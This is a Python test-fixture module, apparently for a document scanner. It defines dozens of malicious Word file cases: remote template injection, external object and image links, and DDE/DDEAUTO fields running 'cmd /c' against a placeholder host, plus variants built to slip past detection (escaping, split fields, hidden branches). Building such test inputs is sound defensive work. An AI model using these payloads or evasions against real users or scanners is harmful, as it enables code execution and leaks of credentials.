"""Texts of Word that fetch or run something when they are opened."""

from tests.foundation.files.office_parts import (
    ELSEWHERE,
    SHARE,
    URL,
    R,
    Trick,
    W,
    document,
    field,
    outside,
    relations,
    run,
    word,
)

SETTINGS = f'<w:settings xmlns:w="{W}" xmlns:r="{R}"><w:attachedTemplate r:id="rId1"/></w:settings>'
BLIP = '<w:p><w:r><w:drawing><a:blip r:link="rId1"/></w:drawing></w:r></w:p>'
VML = "<w:p><w:r><w:pict><v:shape><v:imagedata {}/></v:shape></w:pict></w:r></w:p>"


def template(target: str) -> Trick:
    return Trick(
        "docx",
        {"word/settings.xml": SETTINGS, "word/_rels/settings.xml.rels": outside("attachedTemplate", target)},
    )


def alternative(choice: str, fallback: str) -> str:
    return (
        f'<mc:AlternateContent><mc:Choice Requires="x">{choice}</mc:Choice><mc:Fallback>{fallback}</mc:Fallback>'
        "</mc:AlternateContent>"
    )


WORD_TRICKS: dict[str, Trick] = {
    "a template from elsewhere": template(URL),
    "a template from a share": template(SHARE),
    "a template from a share, as file": template(f"file://{ELSEWHERE}/share/x.dotm"),
    "a template from a share, four slashes": template(f"file:////{ELSEWHERE}/share/x.dotm"),
    "a template from a share, escaped": template(f"file:///%5C%5C{ELSEWHERE}%5Cx.dotm"),
    "a template from a share, escaped twice": template(f"file:///%255C%255C{ELSEWHERE}%255Cx.dotm"),
    "a template, in capitals": template(f"HTTPS://{ELSEWHERE}/x"),
    "a template behind a blank": template(f" &#9;https://{ELSEWHERE}/x"),
    "a template whose mode is written otherwise": Trick(
        "docx",
        {
            "word/settings.xml": SETTINGS,
            "word/_rels/settings.xml.rels": relations(("rId1", "attachedTemplate", URL, "external")),
        },
    ),
    "a template without a mode": Trick(
        "docx",
        {
            "word/settings.xml": SETTINGS,
            "word/_rels/settings.xml.rels": relations(("rId1", "attachedTemplate", URL, "")),
        },
    ),
    "a template through a link": Trick(
        "docx", {"word/settings.xml": SETTINGS, "word/_rels/settings.xml.rels": outside("hyperlink")}
    ),
    "relations of another case": Trick(
        "docx",
        {"word/settings.xml": SETTINGS, "word/_rels/settings.xml.rels": outside("attachedTemplate")},
        lambda name: name.replace("_rels/settings.xml.rels", "_RELS/Settings.xml.RELS"),
    ),
    "a picture from elsewhere": word(BLIP, "image"),
    "a picture from elsewhere through a link": word(BLIP, "hyperlink"),
    "a picture without a mode": Trick(
        "docx",
        {
            "word/document.xml": document(BLIP),
            "word/_rels/document.xml.rels": relations(("rId1", "image", URL, "")),
        },
    ),
    "an old drawing from elsewhere": word(VML.format('r:href="rId1"'), "image"),
    "an old drawing by its address": word(VML.format(f'src="{URL}"')),
    "an old drawing by another address": word(VML.format(f'o:href="{URL}"')),
    "an object from elsewhere": word(
        '<w:p><w:r><w:object><o:OLEObject Type="Link" r:id="rId1"/></w:object></w:r></w:p>', "oleObject"
    ),
    "a frame": Trick(
        "docx",
        {
            "word/webSettings.xml": f'<w:webSettings xmlns:w="{W}" xmlns:r="{R}"><w:frameset><w:frame>'
            '<w:sourceFileName r:id="rId1"/></w:frame></w:frameset></w:webSettings>',
            "word/_rels/webSettings.xml.rels": outside("frame"),
        },
    ),
    "a part of a longer document": word('<w:subDoc r:id="rId1"/>', "subDocument"),
    "a piece of a page": Trick(
        "docx",
        {
            "word/document.xml": document('<w:altChunk r:id="rId1"/>'),
            "word/_rels/document.xml.rels": relations(("rId1", "aFChunk", "x.htm", "")),
            "word/x.htm": f"<html xmlns='http://www.w3.org/1999/xhtml'><img src='{URL}'/></html>",
        },
    ),
    "a mailing": Trick(
        "docx",
        {
            "word/settings.xml": f'<w:settings xmlns:w="{W}" xmlns:r="{R}"><w:mailMerge><w:connectString '
            f'w:val="Data Source={SHARE}"/><w:dataSource r:id="rId1"/></w:mailMerge></w:settings>',
            "word/_rels/settings.xml.rels": outside("mailMergeSource"),
        },
    ),
    "a control": word('<w:p><w:r><w:object><w:control r:id="rId1"/></w:object></w:r></w:p>', "control"),
    "an extension of the web": Trick(
        "docx",
        {
            "_rels/.rels": relations(
                ("rId1", "officeDocument", "word/document.xml", ""),
                ("rId2", "webextensiontaskpanes", "word/x.xml", ""),
            ),
            "word/x.xml": f'<t xmlns="urn:x" store="{URL}"/>',
        },
    ),
    "buttons of its own": Trick(
        "docx",
        {
            "_rels/.rels": relations(
                ("rId1", "officeDocument", "word/document.xml", ""),
                ("rId2", "extensibility", "customUI/x.xml", ""),
            ),
            "customUI/x.xml": f'<customUI xmlns="urn:x" onLoad="{URL}"/>',
        },
    ),
    "a vector drawing that fetches": Trick(
        "docx",
        {
            "word/media/image1.svg": f'<svg xmlns="http://www.w3.org/2000/svg"><image href="{URL}"/><style>'
            f"@import url({URL});</style><rect style='fill:url({URL}#a)'/></svg>",
        },
    ),
    "a field DDE": word(field(f'DDE cmd "/c {ELSEWHERE}"')),
    "a field DDEAUTO in capitals and not": word(field(f'ddeAuto cmd "/c {ELSEWHERE}"')),
    "a field DDEAUTO in pieces": word(field("D", "DEAU", "TO cmd ", f'"/c {ELSEWHERE}"')),
    "a field INCLUDEPICTURE": word(field(f'INCLUDEPICTURE "{URL}" \\d')),
    "a field INCLUDETEXT": word(field(f'INCLUDETEXT "{URL}"')),
    "a field IMPORT": word(field(f'IMPORT "{URL}"')),
    "a field LINK": word(field(f'LINK Excel.Sheet "{URL}"')),
    "a field DATABASE": word(field(f'DATABASE \\c "{URL}"')),
    "a field without a space": word(field(f'INCLUDEPICTURE"{URL}"')),
    "a field in quotes": word(field(f'"INCLUDEPICTURE" "{URL}"')),
    "a field whose word another gives": word(field(field("QUOTE 68 68 69"), f' "{URL}"')),
    "a simple field": word(
        f'<w:p><w:fldSimple w:instr=" DDEAUTO cmd {ELSEWHERE} "><w:r><w:t>1</w:t></w:r></w:fldSimple></w:p>'
    ),
    "a field inside a field": word(field(" IF 1 = 1 ", field(f'INCLUDEPICTURE "{URL}"'), ' "a"')),
    "a field without an end": word(
        f'<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>{run(f"DDE cmd {ELSEWHERE}")}</w:p>'
    ),
    "a field in the other branch": word(field(alternative(run("QUOTE"), run(f"DDE {ELSEWHERE}")))),
    "a field behind deleted text": word(
        field(f"<w:del>{run('QUOTE ', 'delInstrText')}</w:del>", f"DDEAUTO cmd {ELSEWHERE}")
    ),
    "a field behind what is not known": word(
        field(f"<x:y>{run('QUOTE ')}</x:y>", f"DDEAUTO cmd {ELSEWHERE}")
    ),
    "a field that begins in one branch only": word(
        '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>'
        + alternative('<w:r><w:fldChar w:fldCharType="begin"/></w:r>' + run("QUOTE"), "")
        + run(f"DDE cmd {ELSEWHERE}")
        + '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
    ),
    "a form of InfoPath": Trick(
        "docx",
        {
            "customXml/item1.xml": '<x:customXsn xmlns:x="http://schemas.microsoft.com/office/2006/metadata/customXsn">'
            f"<x:xsnLocation>{URL}</x:xsnLocation><x:openByDefault>True</x:openByDefault></x:customXsn>"
        },
    ),
    "a film of the web": word(
        "<w:p><w:r><w:drawing><y:webVideoPr "
        'xmlns:y="http://schemas.microsoft.com/office/word/2012/wordprocessingDrawing" '
        f'embeddedHtml="&lt;iframe src={URL}&gt;"/></w:drawing></w:r></w:p>'
    ),
    "a piece of elsewhere": Trick(
        "docx",
        {
            "customXml/item1.xml": f'<a><i:include xmlns:i="http://www.w3.org/2001/XInclude" href="{URL}"/></a>'
        },
    ),
    "a schema of elsewhere": Trick(
        "docx",
        {
            "word/settings.xml": f'<w:settings xmlns:w="{W}" xmlns:s="http://schemas.openxmlformats.org/schemaLibrary/2006/'
            f'main"><s:schemaLibrary><s:schema s:uri="a" s:schemaLocation="{URL}"/></s:schemaLibrary></w:settings>'
        },
    ),
}
